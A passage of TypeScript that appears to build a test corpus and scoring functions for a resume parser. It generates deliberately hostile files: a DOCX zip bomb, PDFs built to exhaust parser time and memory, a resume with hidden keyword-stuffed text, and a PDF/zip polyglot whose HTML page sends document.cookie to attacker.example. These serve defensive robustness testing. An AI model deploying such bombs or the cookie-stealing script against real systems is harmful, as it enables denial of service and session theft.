  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8;
  ihdr[9] = 0;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
  + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
  + '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const ROOT_RELS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
  + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const DOC_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>';
const DOC_TAIL = '</w:body></w:document>';
const docPara = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/**
 * word/document.xml inflating to 1 GiB + a few bytes of spaces inside one <w:t>. One 1 MiB chunk of spaces is deflated
 * once with a full flush (which ends byte-aligned and resets the window), so the same segment can be repeated 1024 times
 * and closed by a final empty block: about 1 MB compressed. The sizes in the zip headers are the true ones.
 */
function zipBomb(): Buffer {
  const MiB = 1 << 20;
  const head = Buffer.from(`${DOC_HEAD}<w:p><w:r><w:t xml:space="preserve">Resume `, 'utf8');
  const tail = Buffer.from(`</w:t></w:r></w:p>${DOC_TAIL}`, 'utf8');
  const chunk = Buffer.alloc(MiB, 0x20);
  const flush = { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH };
  const segHead = zlib.deflateRawSync(head, flush);
  const seg = zlib.deflateRawSync(chunk, flush);
  const segTail = zlib.deflateRawSync(tail, { level: 9 });
  const repeats = 1024;
  let crc = zlib.crc32(head);
  for (let i = 0; i < repeats; i++) crc = zlib.crc32(chunk, crc);
  crc = zlib.crc32(tail, crc);
  const payload = Buffer.concat([segHead, ...Array.from({ length: repeats }, () => seg), segTail]);
  const document: ZipEntry = { name: 'word/document.xml', method: 8, crc, size: head.length + repeats * MiB + tail.length, payload };
  return zipFiles([zipEntry('[Content_Types].xml', CONTENT_TYPES), zipEntry('_rels/.rels', ROOT_RELS), document]);
}

/**
 * Keeps a parser busy: 1,000 pages all point at one content stream that inflates to ~48 MiB of ~960,000 positioned
 * text-show operators (`1 0 0 1 72 700 Tm (...) Tj`), so the file is ~0.25 MB but extracting its text means running
 * ~1 billion operators and producing tens of GB of text items. A parser needs page, time and text limits.
 */
function endlessPdf(): Buffer {
  const unit = Buffer.from('1 0 0 1 72 700 Tm (Experience Education Skills Summary) Tj\n', 'latin1');
  const repeats = Math.floor((48 << 20) / unit.length);
  const head = Buffer.from('BT /F1 9 Tf\n', 'latin1');
  const body = Buffer.alloc(head.length + unit.length * repeats + 3);
  head.copy(body, 0);
  for (let i = 0; i < repeats; i++) unit.copy(body, head.length + i * unit.length);
  body.write('ET\n', head.length + unit.length * repeats, 'latin1');
  return manyPagesPdf(1000, zlib.deflateSync(body, { level: 6 }), ' /Filter /FlateDecode');
}

let hostileCache: Promise<Record<HostileName, Buffer>> | null = null;

/** Files a parser must refuse or survive (see each builder's comment; sizes are checked in resume-corpus.test.ts). */
export function hostileFiles(): Promise<Record<HostileName, Buffer>> {
  hostileCache ??= buildHostile();
  return hostileCache;
}

async function buildHostile(): Promise<Record<HostileName, Buffer>> {
  const rng = makeRng('hostile');
  const base: FileSpec = { id: 'hostile-resume', format: 'pdf-1col', index: 0, family: 'analyst', years: 6, jobs: 2 };
  const normal = await renderFile(base);
  const truncatedPdf = normal.file.bytes.subarray(0, Math.floor(normal.file.bytes.length * 0.6));
  const encryptedPdf = (await renderFile({ ...base, id: 'hostile-encrypted' }, {
    pdfOptions: { userPassword: 'open-sesame', ownerPassword: 'owner-secret', pdfVersion: '1.4', permissions: { printing: 'highResolution' } },
  })).file.bytes;
  const hiddenTextPdf = (await renderFile({ ...base, id: 'hostile-hidden', family: 'designer' }, {
    after: (doc) => {
      doc.switchToPage(0);
      drawText(doc, 'Kubernetes Terraform Rust Scala', 54, doc.page.height - 70, 'Helvetica', 10, '#ffffff');
      drawText(doc, 'Kubernetes Terraform Rust Scala Apache Spark Go (golang) Distributed Systems', 54, doc.page.height - 30, 'Helvetica', 1, '#000000');
    },
  })).file.bytes;
  const scan = pngGray(850, 1100, (x, y) => {
    // Dark "words" on text lines, with a little speckle: a scanned page with no text layer.
    const line = Math.floor((y - 90) / 26);
    const inLine = y >= 90 && y < 1010 && (y - 90) % 26 < 11;
    const word = Math.floor((x - 80 + (line % 5) * 13) / 47);
    const inWord = x >= 80 && x < 770 - (line % 4) * 60 && (x - 80 + (line % 5) * 13) % 47 < 38 + ((word * 7 + line) % 5);
    if (inLine && inWord) return 40;
    return ((x * 7919 + y * 104729) % 997) === 0 ? 120 : 250;
  });
  const scannedPdf = (await pdfBytes({ size: 'LETTER', margin: 0 }, (doc) => { doc.image(scan, 0, 0, { width: 612, height: 792 }); })).bytes;
  const emptyPdf = (await pdfBytes({ size: 'LETTER' }, () => undefined)).bytes;
  const tooLittleText = (await pdfBytes({ size: 'LETTER' }, (doc) => { drawText(doc, 'Hello', 72, 72, 'Helvetica', 12); })).bytes;
  const junk = Buffer.alloc(64 * 1024);
  for (let i = 0; i < junk.length; i++) junk[i] = rng.int(0, 255);
  junk[0] = 0x00;
  const tenThousandPagesPdf = manyPagesPdf(10_000, Buffer.from('BT /F1 12 Tf 72 720 Td (Curriculum vitae, continued) Tj ET', 'latin1'), '');
  // A real PDF, then a zip (a minimal DOCX plus an HTML page with a script) whose offsets count from the file's start.
  const pdfPart = assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 /MediaBox [0 0 612 792] >>',
    FONT_OBJ,
    '<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >>',
    streamObj(Buffer.from('BT /F1 12 Tf 72 720 Td (Jordan Example - Resume) Tj 0 -16 Td (jordan@example.com) Tj ET', 'latin1')),
  ]);
  const polyglot = Buffer.concat([pdfPart, zipFiles([
    zipEntry('[Content_Types].xml', CONTENT_TYPES), zipEntry('_rels/.rels', ROOT_RELS),
    zipEntry('word/document.xml', `${DOC_HEAD}${docPara('Jordan Example')}${docPara('Skills: Python, SQL')}${DOC_TAIL}`),
    zipEntry('index.html', '<!doctype html><html><body><script>fetch("https://attacker.example/steal?c=" + document.cookie)</script></body></html>'),
  ], pdfPart.length)]);
  // A DOCX of 2,000 page headers: reading them all (each up to 1 MiB inflated) held the only parse worker 15 s.
  const header = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${docPara('Jordan Example · jordan@example.com')}</w:hdr>`;
  const manyHeadersDocx = zipFiles([
    zipEntry('[Content_Types].xml', CONTENT_TYPES), zipEntry('_rels/.rels', ROOT_RELS),
    zipEntry('word/document.xml', `${DOC_HEAD}${docPara('Jordan Example')}${docPara('Experience')}${docPara('Data Analyst, Acme Foods  2019 - Present')}${docPara('Built SQL reports in Tableau for 40 store managers and cut reporting time by half, then trained the team to run them.')}${DOC_TAIL}`),
    ...Array.from({ length: 2000 }, (_, i) => zipEntry(`word/header${i + 1}.xml`, header)),
  ]);
  return {
    zipBombDocx: zipBomb(), tenThousandPagesPdf, endlessPdf: endlessPdf(), truncatedPdf, encryptedPdf, scannedPdf, polyglot,
    emptyPdf, tooLittleText, binaryJunk: junk, hiddenTextPdf, manyHeadersDocx,
  };
}

// ---------------------------------------------------------------------------------------------------------------------
// Writing the corpus out

/** Writes every corpus file as `<id>.<ext>` and `truth.json` ({ id: { file, format, pages, truth } }). */
export async function writeCorpus(dir: string): Promise<void> {
  await mkdir(dir, { recursive: true });
  const corpus = await buildCorpus();
  const truth: Record<string, { file: string; format: CorpusFormat; pages: number; truth: ResumeTruth }> = {};
  for (const f of corpus) {
    const file = `${f.id}.${EXT[f.format]}`;
    await writeFile(path.join(dir, file), f.bytes);
    truth[f.id] = { file, format: f.format, pages: f.pages, truth: f.truth };
  }
  await writeFile(path.join(dir, 'truth.json'), `${JSON.stringify(truth, null, 2)}\n`);
}

// ---------------------------------------------------------------------------------------------------------------------
// Scoring a parse against the truth

export interface FieldCounts { tp: number; fp: number; fn: number }
export type ScoredField = 'name' | 'email' | 'phone' | 'companies' | 'titles' | 'dates' | 'institutions' | 'skills';

const norm = (s: string): string =>
  s.normalize('NFKC').replace(/\u00a0/g, ' ').toLowerCase().replace(/\s+/g, ' ').replace(/^[\s\p{P}\p{S}]+|[\s\p{P}\p{S}]+$/gu, '');
const LEGAL = /(?:[\s,]+(?:inc|incorporated|ltd|limited|llc|llp|plc|gmbh|ag|s\.?a|corp|corporation|co|company|pvt|private|bv|b\.v|pty|srl|oy|ab)\.?)+$/i;
const stripLegal = (s: string): string => norm(norm(s).replace(LEGAL, ''));

function matchMultiset(truth: string[], parsed: string[], same: (a: string, b: string) => boolean): FieldCounts {
  const left = [...truth];
  let tp = 0;
  let fp = 0;
  for (const p of parsed) {
    const i = left.findIndex((t) => same(t, p));
    if (i >= 0) {
      tp++;
      left.splice(i, 1);
    } else fp++;
  }
  return { tp, fp, fn: left.length };
}

function single(truth: string, parsed: string | null, same: (a: string, b: string) => boolean): FieldCounts {
  if (parsed === null || parsed === '') return { tp: 0, fp: 0, fn: 1 };
  return same(truth, parsed) ? { tp: 1, fp: 0, fn: 0 } : { tp: 0, fp: 1, fn: 1 };
}

/** Per-field true/false positives and negatives of a parse against the truth. */
export function fieldScores(truth: ResumeTruth, parsed: ParsedResume): Record<ScoredField, FieldCounts> {
  const text = (a: string, b: string): boolean => norm(a) === norm(b);
  const company = (a: string, b: string): boolean => norm(a) === norm(b) || stripLegal(a) === stripLegal(b);
  const present = (xs: (string | null)[]): string[] => xs.filter((x): x is string => x !== null && x.trim() !== '');
  const truthSkills = new Set(truth.skills);
  const parsedSkills = new Set(parsed.skills.map((s) => s.canonical).filter((c): c is string => c !== null));
  return {
    name: single(truth.name, parsed.name, text),
    email: single(truth.email, parsed.email, (a, b) => a.trim().toLowerCase() === b.trim().toLowerCase()),
    phone: single(truth.phone, parsed.phone, (a, b) => a.replace(/\D/g, '') === b.replace(/\D/g, '')),
    companies: matchMultiset(truth.experience.map((e) => e.company), present(parsed.experience.map((e) => e.company)), company),
    titles: matchMultiset(truth.experience.map((e) => e.title), present(parsed.experience.map((e) => e.title)), text),
    dates: matchMultiset(
      [...truth.experience.flatMap((e) => [e.start, e.end]).filter((d): d is string => d !== null), ...truth.education.map((e) => e.end)],
      present([...parsed.experience.flatMap((e) => [e.start, e.end]), ...parsed.education.map((e) => e.end)]),
      (a, b) => a === b,
    ),
    institutions: matchMultiset(truth.education.map((e) => e.institution), present(parsed.education.map((e) => e.institution)), company),
    skills: {
      tp: [...parsedSkills].filter((s) => truthSkills.has(s)).length,
      fp: [...parsedSkills].filter((s) => !truthSkills.has(s)).length,
      fn: [...truthSkills].filter((s) => !parsedSkills.has(s)).length,
    },
  };
}

/** F1 of counts (1 when there was nothing to find and nothing was found). */
export function f1(counts: FieldCounts): number {
  const denom = 2 * counts.tp + counts.fp + counts.fn;
  return denom === 0 ? 1 : (2 * counts.tp) / denom;
}

/** Sums counts (e.g. one field over a corpus) for a micro-averaged F1. */
export function addCounts(...all: FieldCounts[]): FieldCounts {
  return all.reduce((a, c) => ({ tp: a.tp + c.tp, fp: a.fp + c.fp, fn: a.fn + c.fn }), { tp: 0, fp: 0, fn: 0 });
}
